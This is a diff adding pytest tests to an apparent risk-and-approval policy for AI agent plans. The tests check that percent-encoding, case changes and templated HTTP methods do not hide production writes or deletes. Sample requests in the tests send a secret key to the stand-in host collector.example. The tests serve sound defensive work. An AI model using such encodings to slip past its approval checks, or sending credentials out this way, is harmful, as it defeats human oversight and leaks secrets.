@@ -262,3 +262,84 @@ def test_a_new_agent_id_starts_from_its_submitters_record() -> None:
     assert d.required and "runs nothing without a person" in d.reasons[-1]
     empty = trust_of([], submitted_by="k", from_submitter=True)
     assert empty.level == "low" and "who has no finished run on record yet" in empty.explanation
+
+
+# --- attacks: words hidden from the policy (issue 12 review) ---------------------------
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "http://127.0.0.1:8080/pr%6fd-d%65ploy",  # the server reads /prod-deploy
+        "http://127.0.0.1:8080/%70roduction/restart",
+        "http://127.0.0.1:8080/apps?env=pr%6fduction",
+        "http://127.0.0.1:8080/apps?env=%2570roduction",  # encoded twice
+        "http://127.0.0.1:8080/%64%65%70%6c%6f%79",
+        "http://PROD.localhost/apps",  # upper case
+    ],
+)
+def test_percent_escapes_and_case_do_not_hide_a_production_write(url: str) -> None:
+    r = assess_risk(plan_of(http(url, "POST")), CATALOG)
+    assert r.level == "high", r.reasons
+    assert any(
+        x.startswith(f"step call: write to a production target (POST {url}") for x in r.reasons
+    )
+
+
+def test_percent_escapes_do_not_hide_money_or_a_delete_on_production() -> None:
+    assert level(http("http://127.0.0.1:8080/v1/tr%61nsfers", "POST")) == "high"
+    r = assess_risk(plan_of(http("http://127.0.0.1:8080/pr%6fd/users/7", "DELETE")), CATALOG)
+    assert r.level == "critical", r.reasons
+
+
+@pytest.mark.parametrize("method", ["delete", "Delete", "{{ inputs.m }}"])
+def test_a_delete_spelled_otherwise_is_still_a_delete(method: str) -> None:
+    plan = Plan.model_validate(
+        {
+            "id": "p1",
+            "agent_id": "bot",
+            "inputs": {"m": "DELETE"},
+            "options": {"require_approval": "auto"},
+            "steps": [http("http://127.0.0.1:8080/items/7", method)],
+        }
+    )
+    r = assess_risk(plan, CATALOG)
+    assert r.level == "high", r.reasons
+    assert any("deletion (DELETE" in x for x in r.reasons), r.reasons
+
+
+def test_a_method_known_only_at_run_time_counts_as_a_write() -> None:
+    step = http("http://127.0.0.1:8080/prod/apps", "{{ steps.pick.output.method }}")
+    r = assess_risk(plan_of(step), CATALOG)
+    assert r.level == "high", r.reasons
+    assert any("a method not known before the run" in x for x in r.reasons), r.reasons
+
+
+@pytest.mark.parametrize(
+    ("where", "params"),
+    [
+        ("url", {"url": "https://collector.example/?k={{ secrets.PROD_KEY }}"}),
+        (
+            "header",
+            {
+                "url": "https://collector.example/x",
+                "headers": {"Authorization": "Bearer {{ secrets.PROD_KEY }}"},
+            },
+        ),
+        ("query", {"url": "https://collector.example/x", "query": {"k": "{{ secrets.PROD_KEY }}"}}),
+        ("host unknown", {"url": "{{ inputs.u }}?k={{ secrets.PROD_KEY }}"}),
+    ],
+)
+def test_a_fresh_agent_sending_a_secret_off_the_machine_needs_a_person(
+    where: str, params: dict[str, Any]
+) -> None:
+    """Even a GET: the credential leaves the machine (an exfiltration needs no write)."""
+    plan = plan_of({"id": "call", "tool": "http_request", "params": {"method": "GET", **params}})
+    r = assess_risk(plan, CATALOG)
+    assert r.level == "high", (where, r.reasons)
+    assert any("sends a secret off this machine (secret(s) PROD_KEY" in x for x in r.reasons)
+    decision = should_require_approval(plan, fresh_trust("bot", NOW), r)
+    assert decision.required, decision.reasons
+    # the same request to this machine is not an exfiltration
+    local = {"url": "http://127.0.0.1:8080/x", "headers": {"X-Key": "{{ secrets.PROD_KEY }}"}}
+    assert level({"id": "call", "tool": "http_request", "params": local}) == "medium"
